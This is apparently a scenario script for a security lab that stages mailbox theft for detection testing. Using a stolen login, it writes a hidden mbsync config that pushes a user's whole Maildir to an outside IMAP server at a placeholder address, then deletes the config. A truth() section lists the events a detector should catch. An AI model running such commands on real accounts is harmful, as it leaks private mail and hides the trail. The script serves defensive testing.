title="The whole mailbox pushed to a foreign IMAP server by mbsync"
what="With clerk's stolen login a configuration for mbsync is written to /tmp, naming the Maildir as the near side and a server at 203.0.113.67 as the far side, Sync Push. mbsync copies every letter there; the configuration is removed. Mail arrives and clerk works before and after."
user=clerk daemons="cron sshd"
setup() {
  outside_imap clerk
}
act() {
  outside_imap_start
  letters clerk 8
  small_talk 2
  ssh_as clerk <<'L'
ls
ls Maildir/new | wc -l
cal
L
  small_talk 1
  ssh_as clerk <<'L'
which mbsync fetchmail imapsync
printf 'IMAPAccount o\nHost 203.0.113.67\nPort 143\nUser clerk\nPass lab-only\nSSLType None\nAuthMechs LOGIN\n\nIMAPStore far\nAccount o\n\nMaildirStore near\nInbox ~/Maildir\n\nChannel c\nFar :far:\nNear :near:\nPatterns INBOX\nSyncState /tmp/.mst\nCreate Far\nSync Push\n' > /tmp/.mrc
mbsync -q -c /tmp/.mrc c
rm -f /tmp/.mrc /tmp/.mst*
L
  ls -R "$base/out/far/home" | grep -c example >&2
  small_talk 1
}
truth() {
  mail_step deliver 'to=<clerk@example.org>.*status=sent' 'mail lies there'
  exec_step push 'mbsync -q -c /tmp/.mrc c' 'mbsync is started with a configuration of its own'
  net_step far 'mbsync 203.0.113.67:143' 'a server outside'
  file_step read 'mbsync openat:read .*Maildir/' 'letters are read'
}
